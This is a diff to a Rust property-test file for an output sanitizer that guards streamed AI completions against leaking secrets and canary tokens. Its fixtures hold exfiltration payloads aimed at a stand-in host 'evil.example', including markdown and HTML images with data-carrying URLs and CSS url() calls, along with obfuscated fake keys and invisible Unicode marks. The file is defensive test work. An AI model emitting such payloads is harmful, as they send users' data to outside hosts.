@@ -3,9 +3,16 @@
 //! 1. the released text equals `sanitize` of the whole completion (under the hold bound);
 //! 2. no secret value, denied URL or canary is ever released, whatever the bound;
 //! 3. nothing panics on arbitrary text, the hold bound holds, and with a bound no text
-//!    reaches, equality holds for arbitrary text too.
+//!    reaches, equality holds for arbitrary text too;
+//! 4. streamed output equals whole output for adversarial completions (long whitespace
+//!    runs, canaries spread and interleaved, invisible marks, fullwidth forms, long titles,
+//!    orphan link tails, raw HTML) under any split and any timing of time-forced releases:
+//!    the stream stops exactly when the whole completion leaks a canary, and otherwise
+//!    releases exactly `sanitize(whole)` (unless the byte bound forced a release).
 
-use palisade_output::{sanitize, Canary, GuardOptions, LinkAllow, SanitizeOptions, StreamGuard};
+use palisade_output::{
+    sanitize, Canary, GuardOptions, LinkAllow, SanitizeOptions, StreamGuard, DEFAULT_MAX_HOLD_BYTES,
+};
 use proptest::prelude::*;
 
 fn sanitize_options() -> SanitizeOptions {
@@ -54,8 +61,8 @@ struct Run {
 }
 
 fn run(opts: GuardOptions, deltas: &[String]) -> Run {
-    let max = opts.max_hold_bytes;
     let mut g = StreamGuard::new(opts).unwrap();
+    let max = g.max_hold_bytes();
     let mut text = String::new();
     let mut stopped = false;
     let mut overflowed = false;
@@ -315,5 +322,276 @@ proptest! {
         let r = run(guard_options(1 << 20), &split(&text, &cuts));
         prop_assert!(!r.stopped);
         prop_assert_eq!(&r.text, &sanitize(&text, &sanitize_options()).text);
+    }
+}
+
+/// What a client ends up with: the text, or a refusal.
+#[derive(Debug, PartialEq, Eq)]
+enum Outcome {
+    Text(String),
+    Refused,
+}
+
+/// Runs `deltas` through a guard with the caller's clock: delta `i` arrives after
+/// `gaps[i]` ms, and where `ticks[i]` is set a timer calls `release_due` before the next
+/// delta. Returns the outcome, the byte-forced and the time-forced release counts.
+fn run_timed(
+    opts: GuardOptions,
+    deltas: &[String],
+    gaps: &[u16],
+    ticks: &[bool],
+) -> (Outcome, u64, u64) {
+    use std::time::Duration;
+    let mut g = StreamGuard::new(opts).unwrap();
+    let max = g.max_hold_bytes();
+    let mut text = String::new();
+    let mut stopped = false;
+    let mut now = Duration::ZERO;
+    for (i, d) in deltas.iter().enumerate() {
+        now += Duration::from_millis(u64::from(gaps.get(i).copied().unwrap_or(0)));
+        let r = g.push_at(d, now);
+        text.push_str(&r.text);
+        stopped |= r.stop;
+        assert!(g.held_bytes() < max, "held {} >= {max}", g.held_bytes());
+        if ticks.get(i).copied().unwrap_or(false) {
+            if let Some(due) = g.next_due() {
+                let r = g.release_due(due);
+                text.push_str(&r.text);
+                stopped |= r.stop;
+                now = now.max(due);
+            }
+        }
+    }
+    let r = g.finish();
+    text.push_str(&r.text);
+    stopped |= r.stop;
+    let outcome = if stopped {
+        Outcome::Refused
+    } else {
+        Outcome::Text(text)
+    };
+    (outcome, g.forced_releases(), g.timed_releases())
+}
+
+fn whole_outcome(text: &str, opts: &SanitizeOptions) -> Outcome {
+    let s = sanitize(text, opts);
+    if s.canary_leaked {
+        Outcome::Refused
+    } else {
+        Outcome::Text(s.text.into_owned())
+    }
+}
+
+/// True if the whole text leaks a canary that is located (plain, spread or reversed), not
+/// only found by palisade-detect's decoding of the whole text (spaced letters joined,
+/// base64…), which a stream sees one window (lookback and hold) at a time.
+fn located_leak(text: &str, opts: &SanitizeOptions) -> bool {
+    sanitize(text, opts)
+        .actions
+        .iter()
+        .any(|a| a.class == palisade_output::Class::Canary && a.rule != "canary-token-encoded")
+}
+
+/// Pieces an attacker arranges: long whitespace runs, invisible marks, compatibility
+/// forms, long titles and alt texts, orphan link tails, raw HTML, glued keys.
+fn adversarial_piece() -> impl Strategy<Value = String> {
+    prop_oneof![
+        4 => proptest::sample::select(WORDS).prop_map(str::to_string),
+        3 => Just(" ".to_string()),
+        1 => Just(". ".to_string()),
+        1 => Just("\n".to_string()),
+        1 => (1usize..900).prop_map(|n| " ".repeat(n)),
+        1 => (1usize..300).prop_map(|n| "\n".repeat(n)),
+        1 => (1usize..200).prop_map(|n| "\t \n".repeat(n)),
+        1 => proptest::sample::select(vec![
+            "\u{200E}", "\u{200F}", "\u{061C}", "\u{00AD}", "\u{200B}", "\u{202E}", "\u{2066}",
+        ]).prop_map(str::to_string),
+        1 => Just("ＡＫＩＡＺ７Ｑ２ＬＭ４ＸＫ３ＰＴ６ＷＲＢ".to_string()),
+        1 => Just("xAKIAZ7Q2LM4XK3PT6WRB".to_string()),
+        1 => Just("AK\u{200E}IAZ7Q2LM4XK3PT6WRB".to_string()),
+        1 => (0usize..700).prop_map(|n| format!("![x](//evil.example/p.png?d=1 \"{}\")", "t ".repeat(n))),
+        1 => (0usize..700).prop_map(|n| format!("![{}](//evil.example/p.png)", "a ".repeat(n))),
+        1 => Just("](//evil.example/x)".to_string()),
+        1 => Just("]: //evil.example/x\n".to_string()),
+        1 => Just("> [1]: //evil.example/p.png\n".to_string()),
+        1 => Just("![a`]`](//evil.example/p.png)".to_string()),
+        1 => Just("<img src=\"&#00000000047;&#47;evil.example/p\">".to_string()),
+        1 => Just("<style>b{background:url(//evil.example/x)}</style>".to_string()),
+        1 => Just("evil.com/p?d=1 ".to_string()),
+        1 => Just("[docs](https://docs.rs/x \"a title\")".to_string()),
+        1 => Just("4111 1111 1111 1111".to_string()),
+    ]
+}
+
+/// A completion of adversarial pieces with a canary, maybe, spread through it: its
+/// characters in order, each followed by a whitespace run (up to `gap` bytes) and some
+/// pieces interleaved between them (which may or may not break the skeleton).
+fn adversarial_completion() -> impl Strategy<Value = (String, Option<Canary>)> {
+    (
+        proptest::collection::vec(adversarial_piece(), 0..40),
+        // Random canaries, as planted ones are (a degenerate `aaaa…` core matches runs of
+        // one letter that the generator makes by accident).
+        any::<[u8; 16]>().prop_filter("a random-looking canary", |seed| {
+            let c = Canary::from_random(seed);
+            let mut chars: Vec<char> = c.token.chars().collect();
+            chars.sort_unstable();
+            chars.dedup();
+            chars.len() >= 10
+        }),
+        0u8..4,
+        proptest::collection::vec((0usize..1500, any::<bool>(), 0usize..40), 16),
+    )
+        .prop_map(|(pieces, seed, mode, spread)| {
+            let canary = Canary::from_random(&seed);
+            let core: Vec<char> = canary.token.trim_start_matches("pls-").chars().collect();
+            let mut text = String::new();
+            let mut rest = pieces.iter();
+            if mode == 0 {
+                // No canary in the text (but one configured).
+                for p in rest {
+                    text.push_str(p);
+                }
+                return (text, Some(canary));
+            }
+            for (c, (gap, interleave, k)) in core.iter().zip(spread) {
+                let c = if mode == 3 {
+                    // Fullwidth.
+                    char::from_u32(*c as u32 + 0xFEE0).unwrap_or(*c)
+                } else {
+                    *c
+                };
+                text.push(c);
+                let ws = if mode == 2 { "\u{200F} \n" } else { " " };
+                text.push_str(&ws.repeat(gap / ws.len()));
+                if interleave {
+                    for p in rest.by_ref().take(k % 3) {
+                        // Only pieces without ASCII letters or digits keep the canary whole.
+                        if p.chars().all(|ch| !ch.is_ascii_alphanumeric()) || k % 2 == 0 {
+                            text.push_str(p);
+                        }
+                    }
+                }
+            }
+            for p in rest {
+                text.push_str(p);
+            }
+            (text, Some(canary))
+        })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: cases() / 4, ..ProptestConfig::default() })]
+
+    /// Adversarial completions, any split, any timing: the stream refuses exactly when the
+    /// whole completion leaks a canary, and otherwise (when the byte bound forced nothing)
+    /// releases exactly what `sanitize` gives the whole. Time-forced releases never change
+    /// the output.
+    #[test]
+    fn streamed_equals_whole_adversarial(
+        (text, canary) in adversarial_completion(),
+        cuts in proptest::collection::vec(any::<usize>(), 0..60),
+        gaps in proptest::collection::vec(0u16..600, 60),
+        ticks in proptest::collection::vec(any::<bool>(), 60),
+    ) {
+        let mut opts = guard_options(DEFAULT_MAX_HOLD_BYTES);
+        opts.sanitize.canaries = canary.into_iter().collect();
+        let whole = whole_outcome(&text, &opts.sanitize);
+        let located = located_leak(&text, &opts.sanitize);
+        let (streamed, forced, _timed) =
+            run_timed(opts, &split(&text, &cuts), &gaps, &ticks);
+        if located {
+            prop_assert_eq!(streamed, Outcome::Refused);
+        } else if streamed == Outcome::Refused {
+            // A stream refuses only what the whole refuses.
+            prop_assert_eq!(whole, Outcome::Refused);
+        } else if forced == 0 && whole != Outcome::Refused {
+            prop_assert_eq!(streamed, whole);
+        }
+    }
+
+    /// The generated completions of property 1 under random timing: equal to the whole,
+    /// with time-forced releases happening.
+    #[test]
+    fn time_forced_releases_keep_equality((text, _) in completion(),
+                                          cuts in proptest::collection::vec(any::<usize>(), 0..40),
+                                          gaps in proptest::collection::vec(0u16..600, 40),
+                                          ticks in proptest::collection::vec(any::<bool>(), 40)) {
+        let opts = guard_options(1 << 16);
+        let whole = whole_outcome(&text, &opts.sanitize);
+        let (streamed, forced, _) = run_timed(opts, &split(&text, &cuts), &gaps, &ticks);
+        prop_assert_eq!(forced, 0);
+        prop_assert_eq!(streamed, whole);
+    }
+}
+
+/// JSON text made of pieces: strings with escapes (also split escapes and surrogates),
+/// numbers, punctuation, keys and values holding what the gate neutralizes.
+fn json_text() -> impl Strategy<Value = String> {
+    proptest::collection::vec(
+        proptest::sample::select(vec![
+            "{",
+            "}",
+            "[",
+            "]",
+            ",",
+            ":",
+            " ",
+            "\n",
+            "\"",
+            "\"key\"",
+            "\"a b\"",
+            "1",
+            "-2.5e3",
+            "true",
+            "null",
+            "\\",
+            "\\\"",
+            "\\\\",
+            "\\n",
+            "\\/",
+            "\\u0041",
+            "\\u004b\\u0049",
+            "\\u0041KIAZ7Q2LM4XK3PT6WRB",
+            "\\ud83d\\ude00",
+            "\\ud83d",
+            "\\u200b",
+            "\\q",
+            "![x](\\/\\/evil.example\\/p.png)",
+            "https://evil.example/x",
+            "AKIAZ7Q2LM4XK3PT6WRB",
+            "jane.doe@corp.net",
+            "<!-- x -->",
+            ". ",
+            "word",
+            "日本",
+        ]),
+        0..60,
+    )
+    .prop_map(|v| v.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: cases(), ..ProptestConfig::default() })]
+
+    /// JSON mode: any split of a JSON completion releases exactly `sanitize_json` of it.
+    #[test]
+    fn json_streamed_equals_whole(text in json_text(),
+                                  cuts in proptest::collection::vec(any::<usize>(), 0..30)) {
+        let opts = guard_options(DEFAULT_MAX_HOLD_BYTES);
+        let whole = palisade_output::sanitize_json(&text, &opts.sanitize);
+        let mut g = palisade_output::JsonStreamGuard::new(opts).unwrap();
+        let mut out = String::new();
+        let mut stopped = false;
+        for d in split(&text, &cuts) {
+            let r = g.push(&d);
+            out.push_str(&r.text);
+            stopped |= r.stop;
+        }
+        let r = g.finish();
+        out.push_str(&r.text);
+        stopped |= r.stop;
+        prop_assert!(!stopped);
+        prop_assert_eq!(&out, &whole.text);
+        prop_assert!(!out.contains("AKIAZ7Q2"));
     }
 }
